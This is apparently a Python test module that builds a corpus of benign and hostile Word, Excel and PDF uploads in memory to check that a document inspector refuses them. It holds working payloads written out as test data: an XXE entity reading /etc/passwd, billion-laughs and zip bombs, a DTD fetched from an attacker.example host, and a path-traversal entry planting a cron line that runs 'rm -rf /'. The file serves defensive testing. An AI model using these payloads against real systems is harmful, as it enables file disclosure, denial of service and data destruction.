"""A corpus of good and hostile uploads for the document inspector, built at test time.

Nothing binary is committed: every file is made here, in memory, in well
under a second (ZIP archives by hand in ``corpus_zip``, PDFs in
``corpus_pdf``).

``CORPUS`` lists every hostile file with the reason it must be refused for;
``run_corpus()`` inspects them all (the memory test runs it in a child).
"""
import functools
import io
import random

import docx

from tests.unit.corpus_pdf import (
    corrupt_pdf,
    encrypted_pdf,
    escaped_js_pdf,
    go_to_page_pdf,
    launch_pdf,
    named_js_pdf,
    open_action_js_pdf,
    owner_only_pdf,
    page_aa_pdf,
    pdf_bomb,
    pdf_bytes,
    valid_pdf,
)
from tests.unit.corpus_zip import GIB, MIB, deflated_zeros, member, parts_of, rezip, with_parts, zero_archive, zip_bytes

# ---------------------------------------------------------------------------
# Good documents
# ---------------------------------------------------------------------------

@functools.lru_cache(maxsize=None)
def valid_docx():
    """An anti-risk programme in Word: a title, headings, a table, body text."""
    document = docx.Document()
    document.add_heading("Антирисковая программа", 0)
    document.add_heading("1. Цели", level=1)
    document.add_paragraph("Повысить долю обучающихся, освоивших программу.")
    document.add_heading("2. Задачи", level=1)
    document.add_paragraph("Обновить систему оценивания.")
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text = "Показатель"
    table.cell(0, 1).text = "Значение"
    table.cell(1, 0).text = "Доля школ с низкими результатами"
    table.cell(1, 1).text = "12 %"
    document.add_paragraph("Итог после таблицы.")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def docx_parts(changes):
    """The valid .docx with parts replaced or added ({name: bytes}), or removed (None)."""
    return with_parts(valid_docx(), changes)


@functools.lru_cache(maxsize=None)
def valid_xlsx():
    """A workbook of indicators with two sheets."""
    import openpyxl
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Показатели"
    sheet.append(["Школа", "Доля"])
    sheet.append(["Школа № 1", 0.5])
    book.create_sheet("Итоги")
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


# ---------------------------------------------------------------------------
# Hostile documents
# ---------------------------------------------------------------------------

_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def document_xml(doctype=b"", body=b"<w:p><w:r><w:t>Text</w:t></w:r></w:p>", encoding="utf-8"):
    """A word/document.xml with an optional DOCTYPE, in the given encoding."""
    text = (b'<?xml version="1.0" encoding="%s" standalone="yes"?>\n%s'
            b"<w:document %s><w:body>%s</w:body></w:document>" % (encoding.encode(), doctype, _W, body))
    return text.decode("utf-8").encode(encoding) if encoding.lower() != "utf-8" else text


def xxe_doctype(root):
    """A DOCTYPE for ``root`` declaring an external entity ``&xxe;`` that reads /etc/passwd."""
    return b'<!DOCTYPE %s [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n' % root


def laughs_doctype(root):
    """A DOCTYPE for ``root`` with ten levels of nested entities: ``&lol9;`` is 10^9 "lol"s if expanded."""
    entities = [b'<!ENTITY lol0 "lol">']
    entities += [b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10)]
    return b"<!doctype %s [" % root + b"".join(entities) + b"]>\n"


def xxe_xml():
    """Any XML part with the external entity (the byte scan refuses it whatever the root)."""
    return b'<?xml version="1.0"?>\n' + xxe_doctype(b"r") + b"<r>&xxe;</r>"


def billion_laughs_xml():
    """Any XML part with the billion laughs."""
    return b'<?xml version="1.0"?>\n' + laughs_doctype(b"r") + b"<r>&lol9;</r>"


def xxe_docx():
    """document.xml declares an external entity that reads /etc/passwd."""
    return docx_parts({"word/document.xml": document_xml(xxe_doctype(b"w:document"),
                                                         b"<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>")})


def billion_laughs_docx():
    """document.xml with the billion laughs."""
    return docx_parts({"word/document.xml": document_xml(laughs_doctype(b"w:document"),
                                                         b"<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>")})


def utf16_doctype_docx():
    """A DOCTYPE hidden from a byte search for ASCII by writing the part in UTF-16.

    In a part the inspector does not parse, so only the byte scan can find it.
    """
    xml = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>'
    return docx_parts({"customXml/item2.xml": xml.encode("utf-16")})


def utf7_docx():
    """A part declared in UTF-7, in which "<!DOCTYPE" would be "+ADw-!DOCTYPE"."""
    return docx_parts({"word/document.xml": b'<?xml version="1.0" encoding="UTF-7"?>\n'
                                            b'+ADw-!DOCTYPE x+AD4-<w:document ' + _W + b"/>"})


def doctype_in_other_part_docx():
    """A DOCTYPE in a part the inspector never parses (custom XML) is refused all the same."""
    return docx_parts({"customXml/item1.xml":
                       b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r/>'})


def zip_bomb_of(data, part="xl/media/image1.png", size=GIB + 64 * MIB, declared=None):
    """The (trusted) ZIP ``data`` plus one part of zeros inflating past 1 GiB, its size declared
    honestly (or as ``declared``)."""
    raw, crc = deflated_zeros(size)
    return zip_bytes([member(n, p) for n, p in parts_of(data).items()]
                     + [member(part, raw=raw, crc=crc, size=size, declared=declared)])


def zip_bomb_docx(size=GIB + 64 * MIB):
    """A real .docx plus one media part of zeros inflating past 1 GiB, sizes declared honestly."""
    return zip_bomb_of(valid_docx(), "word/media/image1.png", size)


def lying_zip_bomb_docx(size=GIB + 64 * MIB):
    """The same bomb, but the directory claims the part inflates to 10 KB."""
    return zip_bomb_of(valid_docx(), "word/media/image1.png", size, declared=10_000)


def overlapping_docx():
    """Two parts sharing bytes: the first claims the second's header and data as its own.

    Overlap is how non-recursive zip bombs reuse one compressed kernel for
    thousands of entries; it is refused before anything inflates.
    """
    kernel = member("word/media/b.bin", random.Random(1).randbytes(MIB))
    cover = 30 + len(kernel["name"].encode()) + kernel["compressed"]
    shell = member("word/media/a.bin", raw=b"", crc=kernel["crc"], size=MIB, compressed=cover)
    return zip_bytes([member(n, p) for n, p in parts_of(valid_docx()).items()] + [shell, kernel])


def traversal_docx(entry_name="../../etc/cron.d/evil"):
    """A .docx with an extra part whose name climbs out of any directory it is unpacked into."""
    return docx_parts({entry_name: b"* * * * * root rm -rf /"})


def macro_docx():
    """A macro-enabled document (a VBA project inside) named .docx."""
    return docx_parts({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 fake VBA"})


def many_entries_docx(count=1500):
    """A .docx padded with ``count`` tiny parts."""
    return docx_parts({f"word/media/x{i}.bin": b"" for i in range(count)})


def truncated_docx():
    """The valid .docx cut in half, as an interrupted download leaves it."""
    data = valid_docx()
    return data[:len(data) // 2]


def not_a_package_docx():
    """A ZIP holding the two names a .docx has, and nothing of a Word document in them."""
    return rezip({"[Content_Types].xml": b"<html/>",
                  "word/document.xml": b"<html><body><script>alert(1)</script></body></html>"})


_WORD_MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def undeclared_main_part_docx():
    """A .docx whose content types no longer say that word/document.xml is a Word document."""
    types = parts_of(valid_docx())["[Content_Types].xml"]
    return docx_parts({"[Content_Types].xml": types.replace(_WORD_MAIN, b"application/xml")})


def unrelated_main_part_docx():
    """A .docx without the package relationship that points a reader to its main part."""
    return docx_parts({"_rels/.rels": None})


def foreign_main_part_docx():
    """A .docx whose main part is declared right but holds an HTML page instead of a Word body."""
    return docx_parts({"word/document.xml": b"<html><body><p>Text</p></body></html>"})


def embedded_archive_docx():
    """A .docx with an embedded ZIP (word/embeddings/) whose one part inflates to 512 MiB."""
    return docx_parts({"word/embeddings/oleObject1.zip": zero_archive(512 * MIB)})


def embedded_bomb_docx():
    """A .docx embedding another .docx, itself a zip bomb (as Word embeds a document in a document)."""
    return docx_parts({"word/embeddings/Microsoft_Word_Document.docx": zip_bomb_docx()})


def docx_with_embedded_workbook():
    """A .docx with a chart's workbook embedded, as Word saves every chart: a small archive is fine."""
    return docx_parts({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": valid_xlsx()})


class EndlessStream(io.RawIOBase):
    """An upload that never ends; counts how much was read from it."""

    def __init__(self):
        self.read_bytes = 0

    def readable(self):
        return True

    def readinto(self, buffer):
        n = len(buffer)
        buffer[:n] = bytes(n)
        self.read_bytes += n
        return n


# name -> (filename, builder, limits overrides, reason it must be refused for)
CORPUS = {
    "empty": ("пустой.docx", lambda: b"", {}, "empty"),
    "oversize": ("большой.pdf", lambda: b"%PDF-1.4\n" + bytes(2048), {"max_size": 1024}, "too_large"),
    "endless": ("бесконечный.pdf", EndlessStream, {}, "too_large"),
    "pdf_named_docx": ("программа.docx", valid_pdf, {}, "type"),
    "docx_named_pdf": ("программа.pdf", valid_docx, {}, "type"),
    "xlsx_named_docx": ("программа.docx", valid_xlsx, {}, "type"),
    "exe_named_docx": ("программа.docx", lambda: b"MZ\x90\x00" + bytes(100), {}, "type"),
    "xxe": ("xxe.docx", xxe_docx, {}, "doctype"),
    "billion_laughs": ("laughs.docx", billion_laughs_docx, {}, "doctype"),
    "utf16_doctype": ("utf16.docx", utf16_doctype_docx, {}, "doctype"),
    "doctype_other_part": ("other.docx", doctype_in_other_part_docx, {}, "doctype"),
    "utf7": ("utf7.docx", utf7_docx, {}, "encoding"),
    "zip_bomb": ("bomb.docx", zip_bomb_docx, {}, "bomb"),
    "lying_zip_bomb": ("liar.docx", lying_zip_bomb_docx, {}, "bomb"),
    "overlapping_parts": ("overlap.docx", overlapping_docx, {}, "bomb"),
    "traversal": ("path.docx", traversal_docx, {}, "entry_name"),
    "absolute": ("abs.docx", lambda: traversal_docx("/etc/passwd"), {}, "entry_name"),
    "backslash": ("win.docx", lambda: traversal_docx("..\\..\\Windows\\evil.dll"), {}, "entry_name"),
    "many_entries": ("many.docx", many_entries_docx, {}, "entries"),
    "macros": ("macro.docx", macro_docx, {}, "macros"),
    "truncated_docx": ("cut.docx", truncated_docx, {}, "corrupt"),
    "pdf_bomb": ("bomb.pdf", pdf_bomb, {}, "pdf_limits"),
    "corrupt_pdf": ("broken.pdf", corrupt_pdf, {}, "corrupt"),
    "encrypted_pdf": ("secret.pdf", encrypted_pdf, {}, "encrypted"),
    "too_many_pages": ("long.pdf", lambda: pdf_bytes(["1"], ["2"], ["3"]), {"max_pdf_pages": 2}, "pages"),
    "not_a_package": ("пакет.docx", not_a_package_docx, {}, "package"),
    "undeclared_main_part": ("типы.docx", undeclared_main_part_docx, {}, "package"),
    "unrelated_main_part": ("связи.docx", unrelated_main_part_docx, {}, "package"),
    "foreign_main_part": ("html.docx", foreign_main_part_docx, {}, "package"),
    "embedded_archive": ("вложение.docx", embedded_archive_docx, {}, "bomb"),
    "embedded_bomb": ("матрёшка.docx", embedded_bomb_docx, {}, "bomb"),
    "open_action_js": ("сценарий.pdf", open_action_js_pdf, {}, "active_content"),
    "named_js": ("имена.pdf", named_js_pdf, {}, "active_content"),
    "page_aa": ("страница.pdf", page_aa_pdf, {}, "active_content"),
    "launch": ("запуск.pdf", launch_pdf, {}, "active_content"),
    "escaped_js": ("экран.pdf", escaped_js_pdf, {}, "active_content"),
}

GOOD = {
    "docx": ("программа.docx", valid_docx),
    "pdf": ("программа.pdf", valid_pdf),
    "owner_only_pdf": ("права.pdf", owner_only_pdf),
    "go_to_page_pdf": ("открытие.pdf", go_to_page_pdf),
    "docx_with_embedded_workbook": ("диаграмма.docx", docx_with_embedded_workbook),
}


def run_corpus():
    """Inspect every file of the corpus; {name: reason refused, or the kind accepted}."""
    from core.docinspect import InspectionRefused, Limits, inspect_upload
    results = {}
    for name, (filename, build, overrides, _) in CORPUS.items():
        source = build()
        try:
            inspect_upload(source, filename, allowed=("docx", "pdf"), limits=Limits(**overrides))
            results[name] = "accepted"
        except InspectionRefused as exc:
            results[name] = exc.reason
        del source
    for name, (filename, build) in GOOD.items():
        results[name] = inspect_upload(build(), filename).kind
    return results
